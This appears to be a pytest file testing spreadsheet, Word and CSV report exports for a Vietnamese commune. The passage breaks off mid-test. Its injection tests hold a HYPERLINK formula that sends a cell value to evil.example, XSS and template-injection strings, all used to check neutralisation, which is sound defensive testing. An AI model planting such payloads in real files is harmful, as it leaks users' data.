"""Exports: Excel, Word and CSV of a period, opened again and checked cell by cell and paragraph by paragraph.

A commune (the Hiệp Lực setup file, 14 villages) gets random answers, a late village, an amendment, a draft,
two missing villages, repeat-group items and a previous period; totals are recomputed here independently
from the stored submissions.
"""

from __future__ import annotations

import argparse
import csv
import io
import random
import struct
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import docx
import openpyxl
import pytest
from docx.enum.text import WD_ALIGN_PARAGRAPH, WD_LINE_SPACING
from docx.oxml.ns import qn
from docx.shared import Mm, Pt
from sqlmodel import Session, select

from bot.cli.exports import cmd_export
from bot.cli.parser import add_export_parser, resolve_command
from bot.config import settings_from
from bot.exports import ExportError, build_export, normalise_format, resolve
from bot.exports.chart import completeness_chart, indicators_chart
from bot.exports.data import clean_text, looks_like_formula, neutralise
from bot.exports.filenames import ascii_filename, export_filename
from bot.exports.word import issuing_bodies, place_date_line, text_width
from bot.forms.model import Form, QType, Question
from bot.forms.period_text import fill_form
from bot.services.completeness import completeness
from bot.services.forms import get_form, store_setup_forms
from bot.services.period_facts import period_facts
from bot.services.setup import apply_setup
from bot.services.summaries import indicator_totals
from bot.setup_file import load_setup
from storage.db import session_scope
from storage.models import Commune, Draft, Period, Submission, Village

ROOT = Path(__file__).resolve().parent.parent
TZ = ZoneInfo("Asia/Ho_Chi_Minh")
SETUP_NOW = datetime(2026, 5, 2, 2, 0, tzinfo=UTC)
EXPORT_NOW = datetime(2026, 5, 21, 3, 0, tzinfo=UTC)  # 10:00 on 21/05/2026 in Hà Nội, after the deadline
FORM_ID = "bao-cao-6-thang"
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
WORDS = ["tuyên truyền", "họp thôn", "tổ tự quản", "hòa giải", "đường liên thôn", "camera", "an ninh"]


# ---------------------------------------------------------------------------------------------- seeding


def random_answer(q: Question, rnd: random.Random) -> Any:
    """A valid stored JSON answer for `q`."""
    t = q.type
    if t == QType.INTEGER:
        low = int(q.min) if q.min is not None else 0
        return rnd.randint(low, max(low, min(int(q.max) if q.max is not None else 60, 60)))
    if t == QType.DECIMAL:
        return str(Decimal(rnd.randint(0, 999)) / 10)
    if t == QType.YES_NO:
        return rnd.random() < 0.6
    if t == QType.SINGLE_CHOICE:
        return rnd.choice(q.choices).value
    if t == QType.MULTI_CHOICE:
        return [c.value for c in q.choices if rnd.random() < 0.5]
    if t == QType.DATE:
        return (date(2026, 1, 1) + timedelta(days=rnd.randint(0, 130))).isoformat()
    if t in (QType.TEXT, QType.LONG_TEXT):
        return " ".join(rnd.choice(WORDS) for _ in range(rnd.randint(2, 8))).capitalize() + "."
    if t == QType.PHOTO:
        return {"file_id": f"AgACAg{rnd.randint(1000, 9999)}", "file_unique_id": "u1"}
    if t == QType.LOCATION:
        return {"lat": 21.6 + rnd.random() / 10, "lon": 105.8 + rnd.random() / 10}
    if t == QType.REPEAT:
        items = []
        for _ in range(rnd.randint(0, 3)):
            items.append({s.id: random_answer(s, rnd) for s in q.questions if s.type != QType.NOTE})
        return items
    return None


def random_answers(form: Form, rnd: random.Random) -> dict[str, Any]:
    """Answers to every question; optional ones sometimes left out."""
    out = {}
    for q in form.answerable:
        if not q.required and rnd.random() < 0.3:
            continue
        out[q.id] = random_answer(q, rnd)
    return out


@dataclass
class Seeded:
    """What `seed_reports` made."""

    commune: Commune
    form: Form
    period: Period
    previous: Period
    villages: list[Village]
    late: Village
    amended: Village
    draft: Village
    missing: list[Village]


def _submit(session: Session, village: Village, form: Form, period: Period, answers: dict, sent_at: datetime,
            *, version: int = 1, current: bool = True) -> Submission:  # fmt: skip
    row = Submission(
        village_id=village.id,
        form_id=form.id,
        period_id=period.id,
        form_version=form.version,
        version_no=version,
        is_current=current,
        answers=answers,
        sent_at=sent_at,
        received_at=sent_at,
        on_time=sent_at < period.due_at,
        receipt=f"R{village.id}{version}{period.id}",
    )
    session.add(row)
    return row


def seed_reports(session: Session, *, seed: int = 7) -> Seeded:
    """The Hiệp Lực commune with a realistic period: on time, late, amended, draft and missing villages."""
    rnd = random.Random(seed)
    setup = load_setup(ROOT / "deploy" / "hiep-luc.yaml").setup
    apply_setup(session, setup, now=SETUP_NOW, actor="test")
    store_setup_forms(session, setup, now=SETUP_NOW, actor="test")
    commune = session.exec(select(Commune).where(Commune.code == "hiep-luc")).one()
    form = get_form(session, FORM_ID)
    assert form is not None
    period = session.exec(select(Period).where(Period.form_id == FORM_ID, Period.code == "2026-6T")).one()
    previous = session.exec(select(Period).where(Period.form_id == FORM_ID, Period.code == "2025-6T")).one()
    villages = list(
        session.exec(select(Village).where(Village.commune_id == commune.id).order_by(Village.id))
    )
    late, amended, draft, missing = villages[3], villages[2], villages[11], villages[12:]
    for i, village in enumerate(villages[:11]):
        sent = (
            period.due_at + timedelta(hours=2)
            if village is late
            else period.opens_at + timedelta(days=1, hours=i)
        )
        if village is amended:
            _submit(session, village, form, period, random_answers(form, rnd), sent, current=False)
            sent += timedelta(days=1)
            _submit(session, village, form, period, random_answers(form, rnd), sent, version=2)
        else:
            _submit(session, village, form, period, random_answers(form, rnd), sent)
    session.add(
        Draft(
            village_id=draft.id,
            form_id=FORM_ID,
            period_id=period.id,
            form_version=form.version,
            state={},
            created_at=SETUP_NOW,
            updated_at=SETUP_NOW,
        )
    )
    for village in villages[:10]:
        _submit(
            session, village, form, previous, random_answers(form, rnd), previous.due_at - timedelta(days=2)
        )
    session.flush()
    return Seeded(commune, form, period, previous, villages, late, amended, draft, missing)


def current_answers(session: Session, period: Period) -> dict[int, dict[str, Any]]:
    """village id → current answers, read straight from the table (independent of the export code)."""
    rows = session.exec(select(Submission).where(Submission.period_id == period.id, Submission.is_current))
    return {row.village_id: row.answers for row in rows}


def expected_totals(session: Session, form: Form, period: Period) -> dict[str, int]:
    """Integer questions summed over current submissions, recomputed here."""
    totals: dict[str, int] = {}
    for answers in current_answers(session, period).values():
        for q in form.answerable:
            if q.type == QType.INTEGER and isinstance(answers.get(q.id), int):
                totals[q.id] = totals.get(q.id, 0) + answers[q.id]
    return totals


@pytest.fixture
def seeded(session: Session) -> Seeded:
    """A seeded commune, committed."""
    data = seed_reports(session)
    session.commit()
    return data


def export(session: Session, seeded: Seeded, fmt: str) -> Any:
    """Build one export of the seeded period."""
    return build_export(session, seeded.commune, seeded.form, seeded.period, fmt, EXPORT_NOW)


def workbook(content: bytes) -> openpyxl.Workbook:
    """Open an xlsx from bytes."""
    return openpyxl.load_workbook(io.BytesIO(content))


def local(at: datetime) -> datetime:
    """UTC → naive Hà Nội time, the way the workbook keeps times."""
    return at.astimezone(TZ).replace(tzinfo=None)


# ---------------------------------------------------------------------------------------------- Excel


def test_excel_villages_sheet_cell_by_cell(session: Session, seeded: Seeded) -> None:
    file = export(session, seeded, "xlsx")
    assert file.filename == "Báo cáo 6 tháng — Xã Hiệp Lực — 2026-6T.xlsx"
    assert file.ascii_filename == "bao-cao-6-thang_hiep-luc_2026-6T.xlsx"
    wb = workbook(file.content)
    assert wb.sheetnames == [
        "Các thôn",
        "Chi tiết",
        "Chỉ tiêu tính toán",
        "Thông tin",
    ]  # v2 declares derived figures
    ws = wb["Các thôn"]
    # the questions as the file shows them: "{ky}" filled with the period ("Trong 6 tháng đầu năm 2026, …")
    questions = list(fill_form(seeded.form, period_facts(seeded.period, TZ)).answerable)
    assert any("{ky}" in q.label for q in seeded.form.answerable) and not any(
        "{" in q.label for q in questions
    )
    header = [c.value for c in ws[1]]
    fixed = ["STT", "Thôn, tổ dân phố", "Tình trạng", "Thời gian nộp", "Đúng hạn / Muộn", "Lần nộp"]
    assert header[:6] == fixed
    n = len(questions)
    assert header[6 : 6 + n] == [
        q.short_label + (" (số mục)" if q.type == QType.REPEAT else "") for q in questions
    ]
    assert len(header) == 6 + n + len(seeded.form.derived)  # then one column per derived figure
    assert any(q.short_label != q.label for q in questions)  # the shipped form has short labels
    for i, q in enumerate(questions, start=7):  # the whole question stays on the header, as a comment
        comment = ws.cell(1, i).comment
        assert (comment.text if comment else None) == (q.label if q.short_label != q.label else None)
    assert ws.freeze_panes == "C2"
    assert ws.column_dimensions["B"].width == 28
    assert all(ws.cell(1, i).font.b for i in range(1, len(header) + 1))

    answers = current_answers(session, seeded.period)
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(seeded.villages) + 1  # every active village, then the totals row
    subs = {
        s.village_id: s
        for s in session.exec(
            select(Submission).where(Submission.period_id == seeded.period.id, Submission.is_current)
        )
    }
    col = {label: i for i, label in enumerate(header)}
    for n, (village, row) in enumerate(zip(seeded.villages, rows, strict=False), start=1):
        assert row[0] == n and row[1] == village.name
        if village in seeded.missing:
            assert row[2] == "Chưa nộp" and row[3] is None and row[4] is None and row[5] is None
            assert all(v is None for v in row[6:])
            continue
        if village is seeded.draft:
            assert row[2] == "Chưa nộp (đang làm dở)" and all(v is None for v in row[3:])
            continue
        sub = subs[village.id]
        assert row[2] == "Đã nộp"
        assert row[3] == local(sub.sent_at)
        assert row[4] == ("Muộn" if village is seeded.late else "Đúng hạn")
        assert row[5] == (2 if village is seeded.amended else 1)
        for q in questions:
            value, stored = (
                row[col[q.short_label + (" (số mục)" if q.type == QType.REPEAT else "")]],
                answers[village.id].get(q.id),
            )
            if stored is None:
                assert value is None, q.id
            elif q.type == QType.INTEGER:
                assert value == stored and type(value) is int, q.id
            elif q.type == QType.YES_NO:
                assert value == ("Có" if stored else "Không")
            elif q.type == QType.SINGLE_CHOICE:
                assert value == q.choice_label(stored)
            elif q.type == QType.DATE:
                assert value == datetime.fromisoformat(stored)
            elif q.type == QType.REPEAT:
                assert value == len(stored)
            elif q.type in (QType.TEXT, QType.LONG_TEXT):
                assert value == stored
    sent_cell = ws.cell(2, 4)
    assert isinstance(sent_cell.value, datetime) and sent_cell.number_format == "dd/mm/yyyy hh:mm"
    dates = [i + 7 for i, q in enumerate(questions) if q.type == QType.DATE]  # the semiannual form has none
    for date_col in dates[:1]:
        dated = next(ws.cell(r, date_col) for r in range(2, 14) if ws.cell(r, date_col).value is not None)
        assert dated.number_format == "dd/mm/yyyy"

    totals = rows[-1]
    assert totals[1] == "Tổng cộng"
    expected = expected_totals(session, seeded.form, seeded.period)
    for q in questions:
        if q.type == QType.INTEGER:
            assert totals[col[q.short_label]] == expected.get(q.id, 0), q.id
    assert totals[2] is None and totals[3] is None  # text and time columns are not summed


def test_excel_amendment_shows_the_current_version(session: Session, seeded: Seeded) -> None:
    ws = workbook(export(session, seeded, "xlsx").content)["Các thôn"]
    current = session.exec(
        select(Submission).where(
            Submission.village_id == seeded.amended.id,
            Submission.period_id == seeded.period.id,
            Submission.is_current,
        )
    ).one()
    row = next(r for r in ws.iter_rows(min_row=2, values_only=True) if r[1] == seeded.amended.name)
    first_int = next(q for q in seeded.form.answerable if q.type == QType.INTEGER)
    assert row[5] == 2 and row[6] == current.answers[first_int.id]


def test_excel_repeat_group_and_information_sheets(session: Session, seeded: Seeded) -> None:
    wb = workbook(export(session, seeded, "xlsx").content)
    group = seeded.form.question("vu_viec")
    subs = [s for s in group.questions if s.type != QType.NOTE]
    detail = wb["Chi tiết"]
    assert [c.value for c in detail[1]] == ["Thôn, tổ dân phố", "Mục số", *[s.short_label for s in subs]]
    assert detail.freeze_panes == "C2"
    expected = []
    answers = current_answers(session, seeded.period)
    for village in seeded.villages:
        for n, item in enumerate(answers.get(village.id, {}).get("vu_viec") or [], start=1):
            loai = seeded.form.question("vu_viec.loai").choice_label(item["loai"])
            expected.append((village.name, n, datetime.fromisoformat(item["ngay"]), loai, item["mo_ta"]))
    got = [r[:5] for r in detail.iter_rows(min_row=2, values_only=True)]
    assert got == expected and len(got) > 3
    info = {r[0]: r[1] for r in wb["Thông tin"].iter_rows(min_row=2, values_only=True)}
    assert info["Xã"] == "Xã Hiệp Lực" and info["Tỉnh"] == "Thái Nguyên"
    assert info["Kỳ báo cáo"] == "6 tháng đầu năm 2026" and info["Mã kỳ"] == "2026-6T"
    assert info["Biểu mẫu"].startswith("Báo cáo 6 tháng")
    assert info["Thời điểm xuất"] == datetime(2026, 5, 21, 10, 0)
    assert info["Hạn nộp"] == datetime(2026, 5, 20, 0, 0)
    assert info["Số thôn, tổ dân phố"] == 14 and info["Số thôn đã nộp"] == 11


HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
}


def _set_answer(session: Session, village: Village, period: Period, **changes: Any) -> None:
    row = session.exec(
        select(Submission).where(
            Submission.village_id == village.id, Submission.period_id == period.id, Submission.is_current
        )
    ).one()
    row.answers = {**row.answers, **changes}
    session.add(row)


def test_formula_injection_ends_up_as_text(session: Session, seeded: Seeded) -> None:
    villages = seeded.villages
    _set_answer(session, villages[0], seeded.period, kho_khan=HOSTILE["formula"], de_xuat=HOSTILE["plus"])
    _set_answer(session, villages[1], seeded.period, kho_khan=HOSTILE["minus"], de_xuat=HOSTILE["tab"])
    villages[4].name = HOSTILE["at"]
    session.add(villages[4])
    session.commit()
    content = export(session, seeded, "xlsx").content
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode() and "<f " not in z.read(name).decode()
    ws = workbook(content)["Các thôn"]
    header = [c.value for c in ws[1]]
    kk, dx = (
        header.index(seeded.form.question("kho_khan").short_label),
        header.index(seeded.form.question("de_xuat").short_label),
    )
    cells = [ws.cell(2, kk + 1), ws.cell(2, dx + 1), ws.cell(3, kk + 1), ws.cell(3, dx + 1), ws.cell(6, 2)]
    assert [c.value for c in cells] == [HOSTILE[k] for k in ("formula", "plus", "minus", "tab", "at")]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)

    rows = list(csv.reader(io.StringIO(export(session, seeded, "csv").content.decode("utf-8-sig"))))
    assert rows[1][kk] == "'" + HOSTILE["formula"] and rows[1][dx] == "'+1"
    assert rows[2][kk] == "'-2" and rows[2][dx] == "'" + HOSTILE["tab"] and rows[5][1] == "'@SUM(A1:A9)"
    assert all(not looks_like_formula(cell) for row in rows for cell in row)


def test_hostile_text_never_breaks_the_files(session: Session, seeded: Seeded) -> None:
    controls = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r")
    jinja = "{{ 7*7 }} {% for x in y %} <b>đậm</b> <script>alert(1)</script> &amp; ]]>"
    rtl = "\u202eابحث\u200f ‏Thôn"
    big = ("Khó khăn: đường lầy, thiếu đèn chiếu sáng. " * 250)[:10_000]
    _set_answer(session, seeded.villages[0], seeded.period, kho_khan=f"{jinja}{controls}{rtl}", de_xuat=big)
    name = (jinja + rtl + controls + "Thôn Nà Làng " * 20)[:200]  # the column holds 200 characters
    seeded.villages[0].name = name
    session.add(seeded.villages[0])
    session.commit()
    clean_name = clean_text(name)

    ws = workbook(export(session, seeded, "xlsx").content)["Các thôn"]
    header = [c.value for c in ws[1]]
    row = [c.value for c in ws[2]]
    assert row[1] == clean_name and controls not in row[1] and "\u202e" in row[1]
    assert row[header.index(seeded.form.question("kho_khan").short_label)] == f"{jinja}{rtl}"
    assert row[header.index(seeded.form.question("de_xuat").short_label)] == big

    document = docx.Document(io.BytesIO(export(session, seeded, "docx").content))
    text = "\n".join(p.text for p in document.paragraphs)
    assert jinja in text  # shown literally, never evaluated or escaped
    table_names = [r.cells[1].text for r in document.tables[1].rows[1:]]
    assert table_names[0] == " ".join(clean_name.split())
    assert not any(chr(c) in text for c in range(1, 32) if chr(c) not in "\t\n\r")
    long_line = next(p.text for p in document.paragraphs if "đường lầy" in p.text)
    assert len(long_line) < 2_200 and long_line.endswith("…")

    rows = list(csv.reader(io.StringIO(export(session, seeded, "csv").content.decode("utf-8-sig"))))
    assert rows[1][1] == clean_name and len(rows) == len(seeded.villages) + 1


def test_clean_text_and_neutralise() -> None:
    assert clean_text("a\x00b\x01c\x0bd\x1fe\ud800f\ufffeg\tt\nn\r\nr") == "abcdefg\tt\nn\nr"
    for text in ("=A1", "+1", "-2", "@x", "\tx", "\rx"):
        assert looks_like_formula(text) and neutralise(text) == "'" + text
    assert neutralise("\x00=1") == "'=1"  # cleaned first, then checked
    assert neutralise("Thôn 1") == "Thôn 1" and neutralise("") == "" and not looks_like_formula("1-2")


# ---------------------------------------------------------------------------------------------- CSV


def test_csv_has_bom_the_same_columns_and_local_times(session: Session, seeded: Seeded) -> None:
    content = export(session, seeded, "csv").content
    assert content.startswith(b"\xef\xbb\xbf") and content.count(b"\xef\xbb\xbf") == 1
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert content.endswith(b"\r\n") and b"\r\r\n" not in content  # CRLF, not translated twice
    assert content.count(b"\r\n") == len(rows)
    sheet = workbook(export(session, seeded, "xlsx").content)["Các thôn"]
    assert rows[0] == [c.value for c in sheet[1]]
    assert len(rows) == len(seeded.villages) + 1  # no totals row in the CSV
    by_name = {r[1]: r for r in rows[1:]}
    late = by_name[seeded.late.name]
    assert late[2] == "Đã nộp" and late[4] == "Muộn"
    assert late[3] == local(seeded.period.due_at + timedelta(hours=2)).strftime("%d/%m/%Y %H:%M")
    assert by_name[seeded.missing[0].name][2:6] == ["Chưa nộp", "", "", ""]
    expected = expected_totals(session, seeded.form, seeded.period)
    q = next(q for q in seeded.form.answerable if q.type == QType.INTEGER)
    assert sum(int(r[6]) for r in rows[1:] if r[6]) == expected[q.id]


# ---------------------------------------------------------------------------------------------- Word


def _within(length: int, low_mm: float, high_mm: float) -> bool:
    """A length between two sizes in millimetres (Word stores twentieths of a point: 0.1 mm slack)."""
    return Mm(low_mm - 0.1) <= length <= Mm(high_mm + 0.1)


def _runs(paragraph: Any) -> list[Any]:
    return [r for r in paragraph.runs if r.text]


def _has_top_rule(paragraph: Any) -> bool:
    borders = paragraph._p.pPr.find(qn("w:pBdr")) if paragraph._p.pPr is not None else None
    return borders is not None and borders.find(qn("w:top")) is not None


def _rule_length(paragraph: Any, available: int) -> int:
    fmt = paragraph.paragraph_format
    return available - (fmt.left_indent or 0) - (fmt.right_indent or 0)


def test_word_page_fonts_and_header_block(session: Session, seeded: Seeded) -> None:
    file = export(session, seeded, "docx")
    assert file.filename.endswith(".docx") and file.mime.endswith("wordprocessingml.document")
    d = docx.Document(io.BytesIO(file.content))
    section = d.sections[0]
    assert abs(section.page_width - Mm(210)) < Mm(0.1) and abs(section.page_height - Mm(297)) < Mm(0.1)
    assert _within(section.top_margin, 20, 25) and _within(section.bottom_margin, 20, 25)
    assert _within(section.left_margin, 30, 35) and _within(section.right_margin, 15, 20)
    normal = d.styles["Normal"]
    assert normal.font.name == "Times New Roman" and Pt(13) <= normal.font.size <= Pt(14)
    fonts = normal.element.rPr.find(qn("w:rFonts"))
    assert {fonts.get(qn(f"w:{k}")) for k in ("ascii", "hAnsi", "eastAsia", "cs")} == {"Times New Roman"}
    all_runs = [r for p in d.paragraphs for r in _runs(p)]
    all_runs += [
        r for t in d.tables for row in t.rows for c in row.cells for p in c.paragraphs for r in _runs(p)
    ]
    assert all(r.font.name in (None, "Times New Roman") for r in all_runs)
    assert section.different_first_page_header_footer  # page numbers from page 2
    assert "PAGE" in section.header._element.xml

    header = d.tables[0]
    borders = header._tbl.tblPr.find(qn("w:tblBorders"))
    assert all(el.get(qn("w:val")) == "nil" for el in borders)
    left, right = header.cell(0, 0).paragraphs, header.cell(0, 1).paragraphs
    assert left[0].text == "CÔNG AN TỈNH THÁI NGUYÊN" and not left[0].runs[0].bold
    assert left[1].text == "CÔNG AN XÃ HIỆP LỰC" and left[1].runs[0].bold
    assert Pt(12) <= left[1].runs[0].font.size <= Pt(13)
    left_inner = header.columns[0].width - 2 * Mm(1.9)
    issuer_rule = _rule_length(left[2], left_inner)
    issuer_width = text_width("CÔNG AN XÃ HIỆP LỰC", 13, bold=True)
    assert _has_top_rule(left[2]) and issuer_width / 3 <= issuer_rule <= issuer_width / 2
    assert right[0].text == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" and right[0].runs[0].bold
    assert Pt(12) <= right[0].runs[0].font.size <= Pt(13)
    assert right[1].text == "Độc lập - Tự do - Hạnh phúc" and right[1].runs[0].bold
    assert Pt(13) <= right[1].runs[0].font.size <= Pt(14)
    motto_rule = _rule_length(right[2], header.columns[1].width - 2 * Mm(1.9))
    motto_width = text_width("Độc lập - Tự do - Hạnh phúc", 13, bold=True)
    assert _has_top_rule(right[2]) and abs(motto_rule - motto_width) <= Mm(1)
    number = header.cell(1, 0).paragraphs[0]
    assert number.text == "Số: ……/BC-CAX"
    dated = header.cell(1, 1).paragraphs[0]
    assert dated.text == "Hiệp Lực, ngày 21 tháng 5 năm 2026" and dated.runs[0].italic
    assert Pt(13) <= dated.runs[0].font.size <= Pt(14)
    for p in (*left[:2], *right[:2], number, dated):
        assert p.alignment == WD_ALIGN_PARAGRAPH.CENTER
    # schema order: the border comes before spacing/indent/alignment in <w:pPr>
    tags = [el.tag for el in left[2]._p.pPr]
    assert tags.index(qn("w:pBdr")) < tags.index(qn("w:spacing")) < tags.index(qn("w:jc"))


def test_word_title_body_table_recipients_and_signature(session: Session, seeded: Seeded) -> None:
    d = docx.Document(io.BytesIO(export(session, seeded, "docx").content))
    everything = d.paragraphs
    paragraphs = [p for p in everything if p.text.strip()]
    title, subject = paragraphs[0], paragraphs[1]
    assert title.text == "BÁO CÁO" and title.runs[0].bold and title.alignment == WD_ALIGN_PARAGRAPH.CENTER
    assert subject.runs[0].bold and "6 tháng đầu năm 2026" in subject.text
    rule = everything[next(i for i, p in enumerate(everything) if p.text == subject.text) + 1]
    assert _has_top_rule(rule)

    body = paragraphs[2:]
    assert all(p.alignment == WD_ALIGN_PARAGRAPH.JUSTIFY for p in body)
    assert all(Pt(13) <= r.font.size <= Pt(14) for p in body for r in _runs(p))
    assert all(p.paragraph_format.space_before >= Pt(6) for p in body)
    text = "\n".join(p.text for p in body)
    assert (
        "Tổng số 14 thôn, tổ dân phố; đã nộp 11 (78,6%), trong đó đúng hạn 10, nộp muộn 1; chưa nộp 3" in text
    )
    assert f"- Nộp muộn: {seeded.late.name}." in text
    assert f"- Chưa nộp: {seeded.draft.name}, {seeded.missing[0].name}, {seeded.missing[1].name}." in text
    headings = [p.text for p in body if p.runs and p.runs[0].bold]
    assert headings[0] == "I. TÌNH HÌNH NỘP BÁO CÁO CỦA CÁC THÔN, TỔ DÂN PHỐ"
    assert headings[1].startswith("II. KẾT QUẢ THỰC HIỆN (so sánh với 6 tháng đầu năm 2025)")

    now_totals = expected_totals(session, seeded.form, seeded.period)
    before = expected_totals(session, seeded.form, seeded.previous)
    q = seeded.form.question("so_buoi_tuyen_truyen")
    # the short name, never the question
    line = next(p.text for p in body if p.text.startswith(f"{q.short_label}: "))
    delta = now_totals[q.id] - before[q.id]
    change = f"tăng {delta}" if delta > 0 else f"giảm {-delta}" if delta < 0 else "bằng"
    assert f"{q.short_label}: {now_totals[q.id]} ({change} " in line and "6 tháng đầu năm 2025)" in line
    assert not any(q.label in p.text for p in body)

    table = d.tables[1]
    assert table.style.name == "Table Grid"
    assert [c.text for c in table.rows[0].cells] == [
        "STT", "Thôn, tổ dân phố", "Tình trạng", "Thời gian nộp", "Đúng hạn / Muộn"
    ]  # fmt: skip
    rows = {r.cells[1].text: [c.text for c in r.cells] for r in table.rows[1:]}
    assert len(rows) == 14
    late_at = local(seeded.period.due_at + timedelta(hours=2)).strftime("%H:%M %d/%m/%Y")
    assert rows[seeded.late.name][2:] == ["Đã nộp", late_at, "Muộn"]
    assert rows[seeded.missing[0].name][2:] == ["Chưa nộp", "", ""]
    assert rows[seeded.draft.name][2] == "Chưa nộp (đang làm dở)"

    closing = d.tables[-1]
    assert closing._tbl.tblPr.find(qn("w:tblBorders")) is not None
    left = [p for p in closing.cell(0, 0).paragraphs if p.text]
    assert left[0].text == "Nơi nhận:" and left[0].runs[0].bold and left[0].runs[0].italic
    assert left[0].runs[0].font.size == Pt(12)
    assert [p.text for p in left[1:]] == ["- Công an tỉnh (để b/c);", "- UBND xã;", "- Lưu: VT."]
    assert all(p.runs[0].font.size == Pt(11) for p in left[1:])
    right = closing.cell(0, 1).paragraphs
    assert right[0].text == "TRƯỞNG CÔNG AN XÃ" and right[0].runs[0].bold
    assert sum(1 for p in right if not p.text) >= 3 and right[-1].text == "……………………"
    last_body = body[-1].text
    assert last_body.endswith("trân trọng báo cáo./.")


def test_word_table_rows_are_exactly_what_python_docx_builds_row_by_row(
    session: Session, seeded: Seeded
) -> None:
    """The village rows are copies of one prototype (add_row is quadratic): each must be the XML that
    building it with python-docx's own API gives — widths, alignment, fonts, "never split", texts."""
    from lxml import etree

    from bot.exports.word import _para, _row_flags

    d = docx.Document(io.BytesIO(export(session, seeded, "docx").content))
    table = d.tables[1]
    produced = list(table.rows[1:])
    assert len(produced) == 14
    widths = [Mm(13), Mm(50), Mm(36), Mm(40), Mm(26)]  # the text width, 165 mm (word.py)
    for row in produced:
        texts = [c.text for c in row.cells]
        reference = table.add_row()  # the old way, on the same table
        _row_flags(reference, "w:cantSplit")
        for i, (cell, text) in enumerate(zip(reference.cells, texts, strict=True)):
            cell.width = widths[i]
            _para(
                cell,
                text,
                13,
                align=WD_ALIGN_PARAGRAPH.LEFT if i == 1 else WD_ALIGN_PARAGRAPH.CENTER,
                first=True,
            )
        assert etree.tostring(row._tr, method="c14n") == etree.tostring(reference._tr, method="c14n"), texts
    assert [r.cells[0].text for r in produced] == [str(n) for n in range(1, 15)]
    assert any(
        not c.text for r in produced for c in r.cells
    )  # empty cells too (no run, as _para leaves them)


def test_a_word_body_paragraph_is_what_python_docx_adds() -> None:
    """The body's paragraphs go before the section properties directly (python-docx scans for them): the
    document must be the same XML as with `Document.add_paragraph`."""
    from lxml import etree

    from bot.exports.word import _para

    ours, theirs = docx.Document(), docx.Document()
    for n, text in enumerate(["I. TÌNH HÌNH", "- Thôn Nà Làng: 3 buổi", "", "a\tb  c"]):
        _para(ours, text, 13, bold=n == 0)
        p = theirs.add_paragraph()
        p.alignment = WD_ALIGN_PARAGRAPH.CENTER
        p.paragraph_format.space_before = p.paragraph_format.space_after = Pt(0)
        p.paragraph_format.line_spacing_rule = WD_LINE_SPACING.SINGLE
        if text:
            from bot.exports.word import _run

            _run(p, text, 13, bold=n == 0)
    xml = [etree.tostring(d.element.body, method="c14n") for d in (ours, theirs)]
    assert xml[0] == xml[1]
    assert ours.paragraphs[-1].text == "a\tb  c" and ours.element.body[-1].tag.endswith("sectPr")


def test_word_body_lines_are_what_body_paragraph_builds(session: Session, seeded: Seeded) -> None:
    """Body lines after the first of each kind are copies with their own text: the XML must be the same as
    building every line with `_body_paragraph` (headings bold, tabs, runs of spaces, control characters)."""
    from lxml import etree

    from bot.exports.word import _body_paragraph, _BodyLines

    lines = [("I. TÌNH HÌNH", True), ("- Nà Làng: 3", False), ("a\tb  c", False), ("II. KẾT QUẢ", True),
             ("\x01\x02", False), ("Thôn <b>&amp;</b> \"x\"", False)]  # fmt: skip
    ours, theirs = docx.Document(), docx.Document()
    writer = _BodyLines(ours)
    for text, heading in lines:
        writer.add(text, heading=heading)
        _body_paragraph(theirs, text, heading=heading)
    xml = [etree.tostring(d.element.body, method="c14n") for d in (ours, theirs)]
    assert xml[0] == xml[1]
    assert [p.text for p in ours.paragraphs][-2:] == ["", 'Thôn <b>&amp;</b> "x"']


def test_a_word_report_too_big_to_hold_is_refused_with_a_message(
    session: Session, seeded: Seeded, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past WORD_MAX_VILLAGES the Word report is refused in Vietnamese (Excel and CSV still work)."""
    import bot.exports as exports

    gone = seeded.missing[1]  # a village that left: not in the report, not counted
    gone.active = False
    session.add(gone)
    session.commit()
    villages = len(seeded.villages) - 1
    monkeypatch.setattr(exports, "WORD_MAX_VILLAGES", villages - 1)
    with pytest.raises(ExportError) as refused:
        export(session, seeded, "docx")
    assert str(refused.value).strip() == (
        f"{seeded.commune.name} có {villages} thôn, tổ dân phố: báo cáo Word chỉ làm cho tối đa {villages - 1}. "
        "Hãy xuất Excel hoặc CSV."
    )
    assert export(session, seeded, "xlsx").content and export(session, seeded, "csv").content
    monkeypatch.setattr(exports, "WORD_MAX_VILLAGES", villages)
    assert export(session, seeded, "docx").content.startswith(b"PK")


def test_word_names_when_the_commune_is_unusual() -> None:
    assert issuing_bodies("Xã Hiệp Lực", "Thái Nguyên") == ("CÔNG AN TỈNH THÁI NGUYÊN", "CÔNG AN XÃ HIỆP LỰC")
    assert issuing_bodies("Phường Ba Đình", "Hà Nội") == (
        "CÔNG AN THÀNH PHỐ HÀ NỘI",
        "CÔNG AN PHƯỜNG BA ĐÌNH",
    )
    assert issuing_bodies("Hưng Đạo", "Tỉnh Cao Bằng") == ("CÔNG AN TỈNH CAO BẰNG", "CÔNG AN XÃ HƯNG ĐẠO")
    assert issuing_bodies("Xã Sơn Dương", None) == ("CÔNG AN TỈNH ……", "CÔNG AN XÃ SƠN DƯƠNG")
    assert issuing_bodies("", None)[1] == "CÔNG AN XÃ ……"
    assert place_date_line("Hiệp Lực", date(2026, 5, 20)) == "Hiệp Lực, ngày 20 tháng 5 năm 2026"
    assert place_date_line("Hiệp Lực", date(2026, 2, 5)) == "Hiệp Lực, ngày 05 tháng 02 năm 2026"
    assert place_date_line("Hiệp Lực", date(2026, 12, 9)) == "Hiệp Lực, ngày 09 tháng 12 năm 2026"


def test_word_with_unknown_province_marks_the_blank(session: Session, seeded: Seeded) -> None:
    seeded.commune.province = None
    session.add(seeded.commune)
    session.commit()
